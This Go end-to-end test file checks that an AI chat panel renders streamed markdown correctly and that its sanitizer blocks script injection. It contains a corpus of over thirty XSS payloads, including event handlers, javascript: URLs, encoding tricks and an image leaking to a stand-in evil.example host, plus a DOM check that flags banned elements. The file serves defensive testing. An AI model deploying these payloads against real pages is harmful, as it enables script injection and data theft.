//go:build !js

package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/skiff-ai/skiff/internal/testkit"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"
)

const answer = "## Plan\n\nHere is **the** answer, with [a link](https://example.com/docs) and `inline code`.\n\n" +
	"| Step | Cost |\n|------|-----:|\n| fetch | 3 |\n| parse | 5 |\n\n" +
	"1. first\n2. second\n\n" +
	"```go\nfunc main() {\n\tprintln(\"hi\")\n}\n```\n\n" +
	"> quoted\n\nDone.\n"

func TestMarkdownStreamsAndRenders(t *testing.T) {
	srv := testkit.OpenAIText(t, answer, 7, 15*time.Millisecond)
	tab := browser.Panel(t)
	Configure(t, tab, "openai", srv.URL, "sk-md", "gpt-test")
	SendMessage(t, tab, "plan it")
	// Mid-stream: finished blocks are in the committed part, only the tail is re-rendered.
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "streaming" && `+lastAssistant+`.querySelector(".md-done table")`)
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)

	got := JS[string](t, tab, `(() => { const c = `+lastAssistant+`.querySelector(".content"); return JSON.stringify({
		h2: c.querySelector("h2")?.textContent, strong: c.querySelector("strong")?.textContent,
		th: c.querySelectorAll("th").length, td: c.querySelectorAll("td").length, right: c.querySelector("td:nth-child(2)")?.getAttribute("align"),
		ol: c.querySelectorAll("ol > li").length, lang: c.querySelector(".code .lang")?.textContent,
		code: c.querySelector(".code pre code")?.textContent, copy: c.querySelector(".code .copy-code")?.textContent,
		href: c.querySelector("a")?.getAttribute("href"), target: c.querySelector("a")?.target, rel: c.querySelector("a")?.rel,
		quote: c.querySelector("blockquote")?.textContent.trim(), same: c.innerHTML === (() => { const d = document.createElement("div"); d.append(skiffTest.markdown.render(`+jsString(answer)+`)); return d.innerHTML })() }) })()`)
	want := `{"h2":"Plan","strong":"the","th":2,"td":4,"right":"right","ol":2,"lang":"go","code":"func main() {\n\tprintln(\"hi\")\n}\n","copy":"Copy","href":"https://example.com/docs","target":"_blank","rel":"noopener noreferrer nofollow","quote":"quoted","same":true}`
	if got != want {
		t.Fatalf("rendered\n got %s\nwant %s", got, want)
	}

	// Copy puts the code on the clipboard.
	for _, name := range []string{"clipboard-read", "clipboard-write"} {
		if _, err := chromedp.CallBrowser(tab, cdpbrowser.SetPermission, cdpbrowser.SetPermissionParams{
			Permission: &cdpbrowser.PermissionDescriptor{Name: name}, Setting: cdpbrowser.PermissionSettingGranted, Origin: browser.URL("")}); err != nil {
			t.Fatal(err)
		}
	}
	Do(t, tab, chromedp.Click(chromedp.JSPath(lastAssistant+`.querySelector(".copy-code")`)))
	WaitJS(t, tab, lastAssistant+`.querySelector(".copy-code").textContent === "Copied"`)
	if clip := JS[string](t, tab, `navigator.clipboard.readText()`); clip != "func main() {\n\tprintln(\"hi\")\n}\n" {
		t.Fatalf("clipboard %q", clip)
	}
}

func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// Each payload tries to run script (setting window.__xss) or to load something, written as
// model output. The panel's CSP would block inline script anyway; the test counts CSP
// violations too, so a payload that got past the sanitizer and was only stopped by CSP fails.
var xssCorpus = []string{
	`<img src=x onerror="window.__xss=1">`,
	`<script>window.__xss=2</script>`,
	`[click](javascript:window.__xss=3)`,
	`[click](JaVaScRiPt:window.__xss=4)`,
	`[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9NTwvc2NyaXB0Pg==)`,
	`<svg onload="window.__xss=6"><circle r=5></circle></svg>`,
	`<svg><script>window.__xss=7</script></svg>`,
	`<a href="javascript:window.__xss=8">x</a>`,
	`<iframe src="javascript:window.__xss=9"></iframe>`,
	`<iframe srcdoc="<script>parent.__xss=10</script>"></iframe>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=11">`,
	`<details open ontoggle="window.__xss=12">x</details>`,
	`<form action="javascript:window.__xss=13"><button>go</button></form>`,
	`<object data="javascript:window.__xss=14"></object>`,
	`<embed src="data:text/html,<script>parent.__xss=15</script>">`,
	`![x](x" onerror="window.__xss=16)`,
	`[a](<javascript:window.__xss=17>)`,
	`[a](java&#x09;script:window.__xss=18)`,
	`<a href="&#106;avascript:window.__xss=19">entity</a>`,
	`<style>@import 'https://evil.example/x.css'; body{display:none}</style>`,
	`<noscript><p title="</noscript><img src=x onerror=window.__xss=21>">`,
	`<<img src=x onerror=window.__xss=22>`,
	"<img src=\"x` `<script>window.__xss=23</script>\"` `>",
	"[ref]\n\n[ref]: javascript:window.__xss=24",
	`<meta http-equiv="refresh" content="0;url=javascript:window.__xss=25">`,
	`<base href="javascript:/">[rel](x)`,
	`<input autofocus onfocus="window.__xss=27">`,
	`<video><source onerror="window.__xss=28"></video>`,
	`<div style="background:url(javascript:window.__xss=29)">styled</div>`,
	`<a href="https://ok.example/" onclick="window.__xss=30">ok link with onclick</a>`,
	`![tracker](https://evil.example/leak?q=secret)`,
	`<a href="https://ok.example/" target="_self" id="messages">clobber</a>`,
}

// unsafe lists what is wrong with the rendered DOM under root (a JS expression).
const unsafeJS = `((root) => {
	const bad = [];
	const banned = "script,iframe,object,embed,svg,math,style,link,meta,base,form,input,textarea,select,img,video,audio,source,picture,frame,frameset,template,noscript";
	for (const n of root.querySelectorAll(banned)) bad.push("element " + n.nodeName);
	for (const n of root.querySelectorAll("*")) {
		for (const a of n.attributes) {
			if (/^on/i.test(a.name)) bad.push(n.nodeName + " has " + a.name);
			if (a.name === "style" || a.name === "id" || a.name === "name" || a.name === "srcdoc" || a.name === "formaction") bad.push(n.nodeName + " has " + a.name);
			if (/^(href|src|action|data|xlink:href)$/i.test(a.name) && !/^(https?:|mailto:)/i.test(a.value)) bad.push(n.nodeName + " " + a.name + "=" + a.value);
		}
	}
	for (const a of root.querySelectorAll("a[href]")) if (a.target !== "_blank" || !/noopener/.test(a.rel)) bad.push("link without target/rel: " + a.href);
	return bad;
})`

// rendererPage serves the panel's renderer (markdown.js and its pinned libraries, as built)
// on a plain http page with no Content-Security-Policy: there, anything the sanitizer lets
// through runs, so "nothing ran" means the sanitizer stopped it, not the extension's CSP.
func rendererPage(t *testing.T) string {
	dir := filepath.Join(RepoRoot(), "ext", "panel")
	mux := http.NewServeMux()
	mux.Handle("/panel/", http.StripPrefix("/panel/", http.FileServer(http.Dir(dir))))
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, `<!doctype html><meta charset="utf-8"><title>renderer</title>
<script src="/panel/vendor/marked.js"></script><script src="/panel/vendor/purify.js"></script>
<script type="module">import * as markdown from "/panel/markdown.js"; globalThis.skiffTest = { markdown };</script>
<body></body>`)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv.URL + "/"
}

func TestXSSCorpusNeverExecutes(t *testing.T) {
	if len(xssCorpus) < 15 {
		t.Fatal("the corpus must hold at least 15 payloads")
	}
	page := browser.Tab(t, rendererPage(t))
	WaitJS(t, page, `typeof skiffTest === "object"`)

	// The detectors work: the first payload inserted raw (unsanitized) does run here, and the
	// DOM check flags it.
	JS[bool](t, page, `(() => { const d = document.createElement("div"); d.innerHTML = `+jsString(xssCorpus[0])+`; document.body.append(d); window.__raw = d; return true })()`)
	WaitJS(t, page, `window.__xss === 1`)
	if bad := JS[[]string](t, page, unsafeJS+`(window.__raw)`); len(bad) == 0 {
		t.Fatal("the DOM check does not see a raw onerror handler")
	}
	JS[bool](t, page, `(window.__raw.remove(), delete window.__xss, true)`)

	// Each payload alone through the renderer, inserted into the live document.
	for i, p := range xssCorpus {
		bad := JS[[]string](t, page, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.append(skiffTest.markdown.render(%s)); document.body.append(d); return %s(d) })()`, jsString(p), unsafeJS))
		if len(bad) > 0 {
			t.Errorf("payload %d %q rendered unsafely: %v", i+1, p, bad)
		}
	}
	time.Sleep(700 * time.Millisecond) // time for any handler, load or refresh to fire
	if v := JS[string](t, page, `String(window.__xss)`); v != "undefined" {
		t.Errorf("payload %s executed", v)
	}
	// Images became links that load nothing.
	if n := JS[int](t, page, `[...document.querySelectorAll("a.img-link")].filter(a => a.href.startsWith("https://evil.example/leak")).length`); n != 1 {
		t.Errorf("tracking image became %d links", n)
	}

	// All of them as one streamed reply, through the real chat path in the panel.
	tab := browser.Panel(t)
	// Chrome reports inline handlers it meets while DOMPurify parses (in an inert document); a
	// real leak is an element in the panel that still carries a handler when it is reported.
	JS[bool](t, tab, `(() => { window.__csp = []; document.addEventListener("securitypolicyviolation", (e) => {
		if (e.target instanceof Element && e.target.getAttributeNames().some((n) => /^on/i.test(n))) window.__csp.push(e.target.outerHTML.slice(0, 200)) }); return true })()`)
	var all strings.Builder
	for i, p := range xssCorpus {
		fmt.Fprintf(&all, "Payload %d:\n\n%s\n\n", i+1, p)
	}
	srv := testkit.OpenAIText(t, all.String(), 11, 2*time.Millisecond)
	Configure(t, tab, "openai", srv.URL, "sk-xss", "gpt-test")
	SendMessage(t, tab, "show me the payloads")
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)
	time.Sleep(700 * time.Millisecond)
	if bad := JS[[]string](t, tab, unsafeJS+`(document.getElementById("messages"))`); len(bad) > 0 {
		t.Errorf("chat rendered unsafely: %v", bad)
	}
	if v := JS[string](t, tab, `String(window.__xss)`); v != "undefined" {
		t.Errorf("payload %s executed in the panel", v)
	}
	if v := JS[[]string](t, tab, `window.__csp`); len(v) > 0 {
		t.Errorf("CSP had to block handlers on %v: the sanitizer let them through", v)
	}
	// The user's own text is shown as text, never parsed.
	SendMessage(t, tab, `<img src=x onerror="window.__xss='user'">`)
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)
	if n := JS[int](t, tab, `document.querySelectorAll('#messages img').length`); n != 0 {
		t.Errorf("user text became %d images", n)
	}
}
